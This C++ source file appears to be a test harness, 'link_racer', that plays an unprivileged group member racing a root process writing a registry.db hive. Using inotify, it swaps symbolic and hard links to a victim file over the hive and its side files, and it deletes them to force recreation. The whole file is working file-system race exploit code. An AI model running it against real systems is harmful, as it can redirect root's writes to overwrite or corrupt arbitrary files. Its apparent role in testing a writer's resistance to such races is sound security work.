// link_racer FOLDER VICTIM SECONDS [FOLDER...]
//
// Plays a member of the group that may write the hive, trying to have root's writes land on
// another file. It watches each FOLDER with inotify and, as soon as a name appears, changes or
// goes there (the hive, its -wal, -shm and -journal, any temporary name a writer makes), puts a
// symbolic link and a hard link to VICTIM in its place: both are made beforehand under a name of
// the racer's own and renamed over the name, so that the swap is one system call away from the
// event; a name already gone is also linked directly. When registry.db goes, and once at start,
// it deletes the hive's side files (and at start the hive itself) so that root has to create
// them again while the racer watches. A FOLDER that does not exist yet, or is removed, is
// watched for through its parent. It ends after SECONDS, or on SIGTERM or SIGINT, and prints
//   racer: N events, M attempts, K placed
// where an attempt is one system call that tries to put a link at a name and K counts the ones
// that succeeded. It prints "racer: ready" once its watches are in place. Every loop is bounded;
// nothing here needs privileges.

#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <string>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

namespace {

constexpr uint32_t kFolderEvents = IN_CREATE | IN_MOVED_TO | IN_DELETE | IN_MOVED_FROM |
                                   IN_CLOSE_WRITE | IN_ATTRIB | IN_DELETE_SELF | IN_MOVE_SELF |
                                   IN_ONLYDIR;
// From the parent: the folder coming, and its mode changing (it may be readable only then).
constexpr uint32_t kParentEvents = IN_CREATE | IN_MOVED_TO | IN_ATTRIB | IN_ONLYDIR;
// Names a folder may hold when the racer arrives; a hive folder holds a handful.
constexpr int kMaxScan = 256;
// Reads of the inotify descriptor per wake-up, so that a flood of events cannot hold the loop.
constexpr int kMaxReadsPerWake = 64;
constexpr const char* kPrivatePrefix = ".racer-";
constexpr std::array<const char*, 3> kSideFiles = {"registry.db-wal", "registry.db-shm",
                                                   "registry.db-journal"};

volatile std::sig_atomic_t g_stop = 0;

void onSignal(int) {
    g_stop = 1;
}

struct Counts {
    long events = 0;
    long attempts = 0;
    long placed = 0;
    long symlinksPlaced = 0;
    long hardLinksPlaced = 0;
    long removed = 0;
    long symlinkRefused = 0;
    int symlinkErrno = 0;
    long hardLinkRefused = 0;
    int hardLinkErrno = 0;
    long watchRefused = 0;
    int watchErrno = 0;
    long overflows = 0;
};

struct Folder {
    std::string path;
    std::string parent;
    std::string base;
    int wd = -1;
    int parentWd = -1;
    int dirFd = -1;
    bool symReady = false;
    bool hardReady = false;
    bool disturbedAtStart = false;
    std::string symName;
    std::string hardName;
};

class Racer {
public:
    Racer(std::string victim, std::vector<std::string> folders) : m_victim(std::move(victim)) {
        for (auto& path : folders) {
            while (path.size() > 1 && path.back() == '/') {
                path.pop_back();
            }
            Folder f;
            f.path = path;
            const auto slash = path.rfind('/');
            f.parent =
                slash == std::string::npos ? "." : (slash == 0 ? "/" : path.substr(0, slash));
            f.base = slash == std::string::npos ? path : path.substr(slash + 1);
            const std::string tag = std::string(kPrivatePrefix) + std::to_string(::getpid());
            f.symName = tag + "-s";
            f.hardName = tag + "-h";
            m_folders.push_back(std::move(f));
        }
    }

    bool start() {
        struct stat st {};
        if (::stat(m_victim.c_str(), &st) != 0) {
            std::fprintf(stderr, "racer: cannot see the victim %s: %s\n", m_victim.c_str(),
                         std::strerror(errno));
            return false;
        }
        m_victimDev = st.st_dev;
        m_victimIno = st.st_ino;
        m_fd = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
        if (m_fd < 0) {
            std::fprintf(stderr, "racer: inotify: %s\n", std::strerror(errno));
            return false;
        }
        for (auto& f : m_folders) {
            f.parentWd = ::inotify_add_watch(m_fd, f.parent.c_str(), kParentEvents | IN_MASK_ADD);
            watchFolder(f);
        }
        return true;
    }

    void run(double seconds) {
        using Clock = std::chrono::steady_clock;
        const auto deadline =
            Clock::now() + std::chrono::milliseconds(static_cast<long>(seconds * 1000.0));
        alignas(inotify_event) std::array<char, 64 * 1024> buffer{};
        while (!g_stop) {
            const auto left =
                std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now())
                    .count();
            if (left <= 0) {
                break;
            }
            pollfd p{m_fd, POLLIN, 0};
            const int ready = ::poll(&p, 1, static_cast<int>(left < 100 ? left : 100));
            if (ready <= 0) {
                // A quiet moment (or a signal): folders that are missing may have come back.
                for (auto& f : m_folders) {
                    if (f.wd < 0) {
                        watchFolder(f);
                    }
                }
                continue;
            }
            for (int i = 0; i < kMaxReadsPerWake && !g_stop; ++i) {
                const ssize_t n = ::read(m_fd, buffer.data(), buffer.size());
                if (n <= 0) {
                    break;
                }
                for (ssize_t at = 0; at < n;) {
                    const auto* e = reinterpret_cast<const inotify_event*>(buffer.data() + at);
                    handle(*e);
                    at += static_cast<ssize_t>(sizeof(inotify_event) + e->len);
                }
            }
        }
    }

    void finish() {
        for (auto& f : m_folders) {
            if (f.dirFd >= 0) {
                ::unlinkat(f.dirFd, f.symName.c_str(), 0);
                ::unlinkat(f.dirFd, f.hardName.c_str(), 0);
                ::close(f.dirFd);
                f.dirFd = -1;
            }
        }
        if (m_fd >= 0) {
            ::close(m_fd);
        }
        const auto why = [](int e) { return std::string(e ? std::strerror(e) : "-"); };
        std::printf("racer: symbolic links placed %ld, refused %ld (last: %s); hard links placed "
                    "%ld, refused %ld (last: %s); hive files removed %ld; watches refused %ld "
                    "(%s); queue overflows %ld\n",
                    c.symlinksPlaced, c.symlinkRefused, why(c.symlinkErrno).c_str(),
                    c.hardLinksPlaced, c.hardLinkRefused, why(c.hardLinkErrno).c_str(), c.removed,
                    c.watchRefused, why(c.watchErrno).c_str(), c.overflows);
        std::printf("racer: %ld events, %ld attempts, %ld placed\n", c.events, c.attempts,
                    c.placed);
        std::fflush(stdout);
    }

private:
    static bool isPrivate(const char* name) {
        return std::strncmp(name, kPrivatePrefix, std::strlen(kPrivatePrefix)) == 0;
    }

    void watchFolder(Folder& f) {
        const int wd = ::inotify_add_watch(m_fd, f.path.c_str(), kFolderEvents | IN_MASK_ADD);
        if (wd < 0) {
            if (errno != ENOENT && errno != ENOTDIR) {
                ++c.watchRefused;
                c.watchErrno = errno;
            }
            return;
        }
        f.wd = wd;
        if (f.dirFd >= 0) {
            ::close(f.dirFd);
        }
        f.dirFd = ::open(f.path.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
        f.symReady = false;
        f.hardReady = false;
        if (!f.disturbedAtStart) {
            f.disturbedAtStart = true;
            disturb(f, true);
        }
        scan(f);
    }

    // Whatever the folder already holds is attacked as if it had just appeared.
    void scan(Folder& f) {
        DIR* dir = ::opendir(f.path.c_str());
        if (!dir) {
            return;
        }
        std::vector<std::string> names;
        for (int i = 0; i < kMaxScan; ++i) {
            const dirent* d = ::readdir(dir);
            if (!d) {
                break;
            }
            if (d->d_type != DT_DIR && !isPrivate(d->d_name)) {
                names.emplace_back(d->d_name);
            }
        }
        ::closedir(dir);
        for (const auto& name : names) {
            attack(f, name.c_str(), false);
        }
    }

    void handle(const inotify_event& e) {
        if (e.mask & IN_Q_OVERFLOW) {
            ++c.overflows;
            for (auto& f : m_folders) {
                if (f.wd >= 0) {
                    scan(f);
                }
            }
            return;
        }
        for (auto& f : m_folders) {
            if (e.wd == f.parentWd && e.len > 0 && f.base == e.name && f.wd < 0) {
                watchFolder(f);
            }
            if (e.wd != f.wd) {
                continue;
            }
            if (e.mask & (IN_IGNORED | IN_DELETE_SELF | IN_MOVE_SELF)) {
                // The folder itself went away (a new one may come under the same name).
                if (e.mask & IN_IGNORED) {
                    f.wd = -1;
                    if (f.dirFd >= 0) {
                        ::close(f.dirFd);
                        f.dirFd = -1;
                    }
                }
                continue;
            }
            if (e.len == 0 || (e.mask & IN_ISDIR) || isPrivate(e.name)) {
                continue;
            }
            ++c.events;
            const bool gone = (e.mask & (IN_DELETE | IN_MOVED_FROM)) != 0;
            attack(f, e.name, gone);
            if (gone && std::strcmp(e.name, "registry.db") == 0) {
                disturb(f, false);
            }
        }
    }

    // Whether NAME is already a link of the racer's: reacting again would only chase its own
    // events.
    bool ours(const Folder& f, const char* name) const {
        struct stat st {};
        if (::fstatat(f.dirFd, name, &st, AT_SYMLINK_NOFOLLOW) != 0) {
            return false;
        }
        if (S_ISLNK(st.st_mode)) {
            std::array<char, 4096> target{};
            const ssize_t n = ::readlinkat(f.dirFd, name, target.data(), target.size() - 1);
            return n > 0 && m_victim == std::string(target.data(), static_cast<size_t>(n));
        }
        return st.st_dev == m_victimDev && st.st_ino == m_victimIno;
    }

    bool prepareSymlink(Folder& f) {
        if (!f.symReady) {
            f.symReady = ::symlinkat(m_victim.c_str(), f.dirFd, f.symName.c_str()) == 0 ||
                         (errno == EEXIST && ours(f, f.symName.c_str()));
            if (!f.symReady) {
                refused(true);
            }
        }
        return f.symReady;
    }

    bool prepareHardLink(Folder& f) {
        if (!f.hardReady) {
            f.hardReady =
                ::linkat(AT_FDCWD, m_victim.c_str(), f.dirFd, f.hardName.c_str(), 0) == 0 ||
                (errno == EEXIST && ours(f, f.hardName.c_str()));
            if (!f.hardReady) {
                refused(false);
            }
        }
        return f.hardReady;
    }

    void refused(bool symbolic) {
        ++(symbolic ? c.symlinkRefused : c.hardLinkRefused);
        (symbolic ? c.symlinkErrno : c.hardLinkErrno) = errno;
    }

    void placed(bool symbolic) {
        ++c.placed;
        ++(symbolic ? c.symlinksPlaced : c.hardLinksPlaced);
    }

    // One try of each kind of link, the kind that goes last (and so stays) taking turns.
    void attack(Folder& f, const char* name, bool gone) {
        if (f.dirFd < 0 || ours(f, name)) {
            return;
        }
        const bool symbolicLast = (m_turn++ % 2) == 0;
        for (int k = 0; k < 2; ++k) {
            const bool symbolic = (k == 1) == symbolicLast;
            if (gone) {
                ++c.attempts;
                const int rc = symbolic ? ::symlinkat(m_victim.c_str(), f.dirFd, name)
                                        : ::linkat(AT_FDCWD, m_victim.c_str(), f.dirFd, name, 0);
                if (rc == 0) {
                    placed(symbolic);
                    continue;
                }
                if (errno != EEXIST) {
                    refused(symbolic);
                    continue;
                }
                // Someone made the name again meanwhile: replace it instead.
            }
            const std::string& mine = symbolic ? f.symName : f.hardName;
            bool& ready = symbolic ? f.symReady : f.hardReady;
            // A second try only when someone removed the prepared link meanwhile.
            for (int t = 0; t < 2; ++t) {
                ++c.attempts;
                if (!(symbolic ? prepareSymlink(f) : prepareHardLink(f))) {
                    break;
                }
                if (::renameat(f.dirFd, mine.c_str(), f.dirFd, name) == 0) {
                    ready = false;
                    placed(symbolic);
                    break;
                }
                if (errno != ENOENT) {
                    break;
                }
                ready = false;
            }
        }
        // Have the next links ready before the next event.
        prepareSymlink(f);
        prepareHardLink(f);
    }

    // Removes the hive's side files (and, at start, the hive itself) so that root's next write
    // creates them; the names are then linked at once.
    void disturb(Folder& f, bool atStart) {
        if (f.dirFd < 0) {
            return;
        }
        if (atStart) {
            const std::string away = f.symName + "-away";
            if (::renameat(f.dirFd, "registry.db", f.dirFd, away.c_str()) == 0) {
                ++c.removed;
                ::unlinkat(f.dirFd, away.c_str(), 0);
                attack(f, "registry.db", true);
            }
        }
        for (const char* side : kSideFiles) {
            if (!ours(f, side) && ::unlinkat(f.dirFd, side, 0) == 0) {
                ++c.removed;
                attack(f, side, true);
            }
        }
    }

    std::string m_victim;
    dev_t m_victimDev = 0;
    ino_t m_victimIno = 0;
    std::vector<Folder> m_folders;
    int m_fd = -1;
    unsigned long m_turn = 0;
    Counts c;
};

void sayWho() {
    std::array<gid_t, 64> groups{};
    const int n = ::getgroups(static_cast<int>(groups.size()), groups.data());
    std::string list;
    for (int i = 0; i < n; ++i) {
        list += (i ? "," : "") + std::to_string(groups[static_cast<size_t>(i)]);
    }
    std::printf("racer: running as uid %u gid %u, groups %s\n", ::getuid(), ::getgid(),
                list.empty() ? "-" : list.c_str());
    std::fflush(stdout);
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 4) {
        std::fprintf(stderr, "usage: %s FOLDER VICTIM SECONDS [FOLDER...]\n", argv[0]);
        return 2;
    }
    char* end = nullptr;
    const double seconds = std::strtod(argv[3], &end);
    if (end == argv[3] || *end != '\0' || !(seconds > 0) || seconds > 24 * 3600) {
        std::fprintf(stderr, "link_racer: SECONDS must be a positive number\n");
        return 2;
    }
    std::vector<std::string> folders{argv[1]};
    for (int i = 4; i < argc; ++i) {
        folders.emplace_back(argv[i]);
    }

    struct sigaction sa {};
    sa.sa_handler = onSignal;
    sigemptyset(&sa.sa_mask);
    ::sigaction(SIGTERM, &sa, nullptr);
    ::sigaction(SIGINT, &sa, nullptr);

    sayWho();
    Racer racer(argv[2], std::move(folders));
    if (!racer.start()) {
        return 1;
    }
    // Whoever started the racer may begin once this line is out: the watches are in place.
    std::printf("racer: ready\n");
    std::fflush(stdout);
    racer.run(seconds);
    racer.finish();
    return 0;
}
